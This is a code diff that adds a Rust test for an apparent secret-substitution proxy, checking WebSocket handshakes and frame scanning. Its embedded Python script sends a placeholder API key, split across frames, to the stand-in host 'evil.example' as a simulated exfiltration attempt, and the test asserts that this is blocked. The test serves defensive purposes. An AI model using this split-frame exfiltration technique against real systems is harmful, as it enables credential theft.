@@ -141,3 +141,51 @@ print("stream", [r for r in call], dict(call.trailing_metadata()).get("x-trailer
     );
     assert!(!got.contains(PH), "{got}");
 }
+
+#[test]
+fn websocket_handshake_is_substituted_and_frames_are_scanned() {
+    if !is_root() {
+        return;
+    }
+    let net = FakeInternet::with_peers(&[80], &[443], &[], &[], &[8765]);
+    let o = run(
+        &net,
+        &[],
+        &python(
+            r#"
+import os, websockets.sync.client as c
+ph = os.environ["OPENAI_API_KEY"]
+with c.connect("wss://api.openai.com:8765/chat", additional_headers={"Authorization": "Bearer " + ph}, open_timeout=5) as ws:
+    ws.send("hello")
+    print("echo", ws.recv(timeout=5))
+    ws.send("inert " + ph)
+    print("inert", "placeholder" if ws.recv(timeout=5).endswith(ph) else "other")
+try:
+    with c.connect("wss://evil.example:8765/x", open_timeout=5) as ws:
+        ws.send("fine")
+        print("evil-echo", ws.recv(timeout=5))
+        ws.send("key=" + ph[:6])
+        ws.send(ph[6:] + " tail")
+        print("evil-echo2", ws.recv(timeout=5))
+except Exception as e:
+    print("evil-closed", type(e).__name__)
+"#,
+        ),
+    );
+    let out = stdout(&o);
+    assert!(out.contains("echo hello"), "{}", report(&o, &net));
+    // A placeholder in a frame to its allowed host is inert data: passed, not substituted.
+    assert!(out.contains("inert placeholder"), "{}", report(&o, &net));
+    assert!(out.contains("evil-echo fine"), "{}", report(&o, &net));
+    assert!(out.contains("evil-closed"), "{}", report(&o, &net));
+    let got = net.received();
+    assert!(
+        got.contains(&format!("Authorization: Bearer {VALUE}")),
+        "{got}"
+    );
+    assert!(got.contains("WSMSG fine"), "{got}");
+    assert!(
+        !got.contains("key="),
+        "the split placeholder's first frame leaked: {got}"
+    );
+}
